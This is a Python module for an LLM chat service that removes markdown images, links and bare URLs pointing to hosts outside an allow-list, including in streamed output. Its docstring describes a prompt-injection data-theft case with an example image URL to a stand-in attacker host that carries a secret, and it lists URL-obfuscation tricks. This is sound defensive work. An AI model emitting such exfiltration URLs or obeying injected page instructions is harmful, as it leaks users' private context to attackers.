"""The output filter: markdown images and links to hosts not on an allow-list are removed or
neutralised before an answer reaches a client that might render it.

Why: a chat UI that renders markdown fetches ``![x](https://evil.example/p?q=SECRET)`` by itself
the moment the answer appears, so an instruction injected into a web page can exfiltrate whatever
is in the context without a click (the Bard / Google Docs case, Rehberger 2023). A link needs a
click, but carries the same payload.

What is removed (``filter_links``), outside the allow-list:

* inline images ``![alt](url "title")`` -> ``[image removed]``; inline links ``[text](url)`` -> ``text``
  (an image or link whose destination is relative, or not http(s), is removed too);
* reference definitions ``[ref]: url`` (then ``![alt][ref]`` renders as plain text);
* autolinks ``<https://...>``, HTML tags with a URL attribute (``<img src=...>``, ``<a href=...>``);
* bare URLs (GFM autolinks them), written any way a browser accepts: upper case, ``http:/\\host``,
  protocol-relative ``//host``, ``www.host``, user-info (``https://allowed@evil``), percent-encoded or
  full-width dots in the host.

A host is allowed when it is on the list or a subdomain of one. Streaming (``LinkFilter``) holds text
back from the start of an unfinished ``[...]``, ``(...)`` or ``<...>`` and cuts only at whitespace,
so a link split over tokens is judged whole. Not covered: CSS ``url(...)``, links made of text the
client assembles, open redirects on allowed hosts, e-mail autolinks.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from dataclasses import dataclass, field
from urllib.parse import unquote

DEFAULT_ALLOWED_HOSTS = ("docs.python.org",)  # the main job's corpus: the search tool's URLs
IMAGE_REMOVED = "[image removed]"
LINK_REMOVED = "[link removed]"
MAX_HOLD = 4096  # characters held back while waiting for a link to close

_TEXT = r"\[((?:[^\[\]]|\[[^\[\]]*\])*)\]"  # link text: one level of nested brackets
_DEST = r"(<[^<>\n]*>|(?:[^\s()<>]|\([^\s()]*\))+)"  # <...> or a run with balanced parentheses
_TITLE = r"""(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?"""
_INLINE = re.compile(r"(!?)" + _TEXT + r"\(\s*" + _DEST + _TITLE + r"\s*\)")
_REFDEF = re.compile(r"^[ \t]{0,3}\[[^\[\]\n]+\]:[ \t]*\n?[ \t]*(<[^<>\n]*>|\S+)(?:[ \t]+.*)?$", re.M)
_AUTOLINK = re.compile(r"<((?:[a-zA-Z][a-zA-Z0-9+.-]{1,31}:|//|www\.)[^\s<>]*)>")
_TAG = re.compile(r"<\s*[a-zA-Z][^<>]*>")
_ATTR_URL = re.compile(
    r"""(?:src|href|srcset|data|action|poster|formaction|background)\s*=\s*("[^"]*"|'[^']*'|[^\s>]+)""", re.I
)
_BARE = re.compile(r"(?i)(?:\b[a-z][a-z0-9+.-]*:[\\/]{1,3}|(?<![\w/])//(?=\w)|\bwww\.)[^\s<>\"'`]+")
_SCHEME = re.compile(r"^([a-zA-Z][a-zA-Z0-9+.-]*):")
_DOTS = str.maketrans({"。": ".", "．": ".", "｡": "."})


def url_host(url: str) -> str | None:
    """The host a browser would contact for ``url``, lower case; None for relative or non-web URLs."""
    u = re.sub(r"[\x00-\x20]", "", url.strip().strip("<>")).replace("\\", "/")
    m = _SCHEME.match(u)
    if m:
        if m.group(1).lower() not in ("http", "https"):
            return None
        rest = u[m.end() :].lstrip("/")
    elif u.startswith("//"):
        rest = u[2:]
    elif u.lower().startswith("www."):
        rest = u
    else:
        return None
    authority = re.split(r"[/?#]", rest, maxsplit=1)[0]
    host = unquote(authority.rsplit("@", 1)[-1]).translate(_DOTS)
    host = host.split("]")[0] + "]" if host.startswith("[") else host.split(":")[0]
    return host.lower().rstrip(".") or None


def host_allowed(host: str | None, allowed: Iterable[str]) -> bool:
    if not host:
        return False
    return any(host == a or host.endswith("." + a) for a in (h.lower().rstrip(".") for h in allowed))


def url_allowed(url: str, allowed: Iterable[str]) -> bool:
    return host_allowed(url_host(url), allowed)


@dataclass
class Filtered:
    text: str
    removed: list[str] = field(default_factory=list)  # the URLs taken out


def filter_links(text: str, allowed: Iterable[str] = DEFAULT_ALLOWED_HOSTS) -> Filtered:
    """``text`` with images and links to hosts outside ``allowed`` removed (see the module docstring)."""
    allowed = tuple(allowed)
    removed: list[str] = []

    def ok(url: str) -> bool:
        if url_allowed(url, allowed):
            return True
        removed.append(url)
        return False

    def inline(m: re.Match[str]) -> str:
        bang, label, dest = m.group(1), m.group(2), m.group(3)
        if ok(dest):
            return m.group(0)
        return IMAGE_REMOVED if bang else label

    prev = None
    while prev != text:  # a link around an image: [![x](a)](b) -> the image first, then the link
        prev, text = text, _INLINE.sub(inline, text)
    text = _REFDEF.sub(lambda m: m.group(0) if ok(m.group(1)) else "", text)
    text = _AUTOLINK.sub(lambda m: m.group(0) if ok(m.group(1)) else LINK_REMOVED, text)

    def tag(m: re.Match[str]) -> str:
        urls = [v.strip("\"'") for v in _ATTR_URL.findall(m.group(0))]
        return m.group(0) if all([ok(u) for u in urls]) else LINK_REMOVED

    text = _TAG.sub(tag, text)

    def bare(m: re.Match[str]) -> str:
        url = _trim(m.group(0))
        tail = m.group(0)[len(url) :]
        return m.group(0) if ok(url) else LINK_REMOVED + tail

    text = _BARE.sub(bare, text)
    return Filtered(text, removed)


def _trim(url: str) -> str:
    """A bare URL without the punctuation that ends the sentence around it (GFM's rule)."""
    while url and (url[-1] in ".,:;!?'\"*_~" or (url[-1] == ")" and url.count("(") < url.count(")"))):
        url = url[:-1]
    return url


class LinkFilter:
    """``filter_links`` over a stream: ``feed`` pieces, then ``flush`` once at the end."""

    def __init__(self, allowed: Iterable[str] = DEFAULT_ALLOWED_HOSTS) -> None:
        self.allowed = tuple(allowed)
        self.buf = ""
        self.removed: list[str] = []

    def _emit(self, text: str) -> str:
        out = filter_links(text, self.allowed)
        self.removed += out.removed
        return out.text

    def feed(self, piece: str) -> str:
        self.buf += piece
        cut = _safe_cut(self.buf)
        if cut == 0 and len(self.buf) > MAX_HOLD:
            cut = max(self.buf.rfind(" "), self.buf.rfind("\n")) + 1 or len(self.buf)
        if cut == 0:
            return ""
        head, self.buf = self.buf[:cut], self.buf[cut:]
        return self._emit(head)

    def flush(self) -> str:
        head, self.buf = self.buf, ""
        return self._emit(head) if head else ""


def _safe_cut(buf: str) -> int:
    """The end of the longest prefix that closes every ``[``, ``(`` after ``]`` and ``<`` and ends in whitespace.

    A ``<`` counts only before a letter, ``/`` or ``!`` (a tag or an autolink; not ``a < b``) and is
    forgotten at a newline; brackets and parentheses are forgotten at a blank line (markdown's limits).
    """
    square = paren = angle = 0
    cut = 0
    prev = ""
    for i, ch in enumerate(buf):
        nxt = buf[i + 1 : i + 2]
        if ch == "[":
            square += 1
        elif ch == "]":
            square = max(0, square - 1)
        elif ch == "(" and (paren or prev == "]"):
            paren += 1
        elif ch == ")" and paren:
            paren -= 1
        elif ch == "<" and (not nxt or nxt.isalpha() or nxt in "/!"):
            angle += 1
        elif ch == ">":
            angle = max(0, angle - 1)
        elif ch == "\n":
            angle = 0
            if prev == "\n":
                square = paren = 0
        if ch.isspace() and not (square or paren or angle):
            cut = i + 1
        prev = ch
    return cut
